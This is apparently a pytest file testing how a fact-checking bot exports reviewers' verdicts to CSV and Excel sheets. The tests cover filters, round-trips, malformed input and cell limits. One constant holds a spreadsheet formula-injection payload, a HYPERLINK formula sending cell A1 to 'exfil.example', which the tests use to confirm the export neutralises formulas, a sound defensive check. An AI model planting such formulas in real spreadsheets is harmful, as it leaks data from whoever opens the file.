"""The checkers' sheet: what is in it, and that both kinds of file say the same and come back."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.desk import verdicts
from bot.desk.export.csv_sheet import COLUMNS, read_csv, write_csv
from bot.desk.export.selection import Selection
from bot.desk.export.sheet import SheetRow, sheet
from bot.desk.export.xlsx_sheet import write_xlsx
from bot.desk.store import Store
from bot.domain.task import TaskState
from bot.domain.verdict import Rating
from bot.errors import UserError
from tests.conftest import ManualClock
from tests.desk.samples import ANNA, BEN, CHANNEL, TEAM, in_review, open_article, says

HOSTILE = '=HYPERLINK("https://exfil.example/?"&A1,"open")'


@pytest.fixture
def rows(store: Store, clock: ManualClock) -> list[SheetRow]:
    """A desk with a final claim, a disputed one with two verdicts, and open ones; and what others must not see."""
    one, two = open_article(store)
    in_review(store, one, Rating.FALSE)
    clock.advance(hours=2)
    verdicts.confirm(store, BEN, one, 3)
    three, _ = open_article(store, event_id="Ev2", thread_ts="200.1")
    in_review(store, three)
    verdicts.judge(store, BEN, three, 3, replace(says(Rating.FALSE), explanation=f"{HOSTILE}\n-5; =1"))
    open_article(store, event_id="Ev3", team_id="T2")
    assert two
    return list(sheet(store, Selection(TEAM)))


def as_csv(rows: list[SheetRow]) -> bytes:
    out = io.BytesIO()
    assert write_csv(rows, out) == len(rows)
    return out.getvalue()


def test_there_is_a_row_for_each_verdict_and_for_each_claim_without_one(rows: list[SheetRow]) -> None:
    assert [(row.article, row.number, row.state, row.reviewer, row.rating) for row in rows] == [
        (1, 1, "final", "U-anna", "False"),
        (1, 2, "open", "", ""),
        (2, 1, "disputed", "U-anna", "True"),
        (2, 1, "disputed", "U-ben", "False"),
        (2, 2, "open", "", ""),
    ]


def test_a_row_says_everything_about_its_claim(rows: list[SheetRow]) -> None:
    final, quoted = rows[0], rows[1]

    assert (final.quote, final.figures, final.why_it_matters) == (
        "The city spent 14 million euros on the harbour in 2025.",
        ("14 million euros",),
        ("money",),
    )
    assert final.evidence == ("primary 2026-11-24 https://records.example/page",)
    assert (final.confirmed_by, final.disputed_by, final.missing_context) == (("U-ben",), (), False)
    assert final.finished == datetime(2026, 11, 24, 11, tzinfo=UTC)
    assert (quoted.source, quoted.kind, quoted.channel, quoted.publisher) == ("Ada Brandt", "attributed", CHANNEL, "The Quay")


@pytest.mark.parametrize(
    ("selection", "expected"),
    [
        (Selection(TEAM, channel_id="C2"), []),
        (Selection(TEAM, article_id=2), [3, 3, 4]),
        (Selection(TEAM, states=frozenset({TaskState.FINAL})), [1]),
        (Selection(TEAM, since=datetime(2026, 11, 24, 10, tzinfo=UTC)), [3, 3, 4]),
        (Selection(TEAM, until=datetime(2026, 11, 24, 10, tzinfo=UTC)), [1, 2]),
        (Selection(TEAM, since=datetime(2026, 11, 24, 10, tzinfo=UTC), by_finish=True), [1]),
        (Selection("T9"), []),
    ],
)
def test_a_selection_narrows(store: Store, rows: list[SheetRow], selection: Selection, expected: list[int]) -> None:
    assert [row.task for row in sheet(store, selection)] == expected


def test_a_csv_comes_back_to_equal_rows(rows: list[SheetRow]) -> None:
    made = as_csv(rows)

    assert list(read_csv(io.BytesIO(made))) == rows
    assert made.startswith(b"\xef\xbb\xbftask,article,number,")
    assert b"'=HYPERLINK" in made


def test_a_csv_whose_columns_were_moved_is_read(rows: list[SheetRow]) -> None:
    records = list(csv.DictReader(io.StringIO(as_csv(rows).decode("utf-8-sig"), newline="")))
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=["note", *reversed(COLUMNS)])
    writer.writeheader()
    writer.writerows(records)

    assert list(read_csv(io.BytesIO(out.getvalue().encode()))) == rows


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"a,b\r\n1,2\r\n", "lacks"),
        (b"", "lacks"),
        (b"\xff\xfe\x00", "no CSV in UTF-8"),
    ],
)
def test_another_file_is_refused_with_the_reason(content: bytes, says: str) -> None:
    with pytest.raises(UserError, match=says):
        list(read_csv(io.BytesIO(content)))


@pytest.mark.parametrize(("old", "new", "name"), [(b",no,", b",maybe,", "missing_context"), (b"+00:00", b"", "opened")])
def test_a_value_that_was_changed_beyond_reading_is_named_with_its_line(
    rows: list[SheetRow], old: bytes, new: bytes, name: str
) -> None:
    with pytest.raises(UserError, match=f"Line 2: “{name}”"):
        list(read_csv(io.BytesIO(as_csv(rows[:1]).replace(old, new))))


def test_a_workbook_holds_the_same_as_text_numbers_and_times(rows: list[SheetRow]) -> None:
    out = io.BytesIO()
    assert write_xlsx(rows, out) == len(rows)
    page = openpyxl.load_workbook(out).active
    assert page is not None
    head, *lines = page.iter_rows()
    names = [str(cell.value).replace(" ", "_") for cell in head]
    disputed = dict(zip(names, lines[3], strict=True))

    assert tuple(names) == COLUMNS
    assert len(lines) == len(rows)
    assert (disputed["explanation"].data_type, disputed["explanation"].value) == ("s", f"{HOSTILE}\n-5; =1")
    assert disputed["explanation"].quotePrefix
    assert disputed["opened"].value == datetime(2026, 11, 24, 11, 0)  # noqa: DTZ001  # a workbook knows no zones
    assert (disputed["task"].value, disputed["missing_context"].value, disputed["finished"].value) == (3, "no", None)
    assert [cell.data_type for line in lines for cell in line if cell.data_type in {"f", "h"}] == []
    assert page.freeze_panes == "A2"


def test_a_workbook_says_where_excel_would_have_cut_a_text(rows: list[SheetRow]) -> None:
    out = io.BytesIO()
    write_xlsx([replace(rows[0], explanation="x" * 40_000)], out)
    page = openpyxl.load_workbook(out).active
    assert page is not None
    cell = page.cell(2, COLUMNS.index("explanation") + 1).value

    assert isinstance(cell, str)
    assert (len(cell), cell.endswith("the CSV has all of it)")) == (32_767, True)


words = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=20)
entries = st.lists(st.text(st.sampled_from("=-a;' 1"), min_size=1, max_size=5), max_size=3).map(tuple)
moments = st.datetimes(datetime(2000, 1, 1), datetime(2100, 1, 1), timezones=st.just(UTC))  # noqa: DTZ001  # hypothesis adds the zone


@given(words, entries, moments, st.booleans())
def test_any_row_comes_back(text: str, listed: tuple[str, ...], at: datetime, flag: bool) -> None:
    row = SheetRow(
        *(1, 2, 3, text, text, text, text, text, text, text, text, listed, listed, text, text, at, None, text, text, text),
        *(flag, text, listed, at + timedelta(microseconds=1), listed, listed),
    )

    assert list(read_csv(io.BytesIO(as_csv([row])))) == [row]


def test_nobody_is_told_of_a_dispute_that_was_taken_back(store: Store) -> None:
    one, _ = open_article(store)
    in_review(store, one)
    verdicts.dispute(store, BEN, one, 3, "The record says otherwise.")
    [disputed, _] = sheet(store, Selection(TEAM))
    verdicts.judge(store, ANNA, one, 4, says(Rating.FALSE))
    [mended, _] = sheet(store, Selection(TEAM))

    assert (disputed.disputed_by, mended.disputed_by) == (("U-ben",), ())
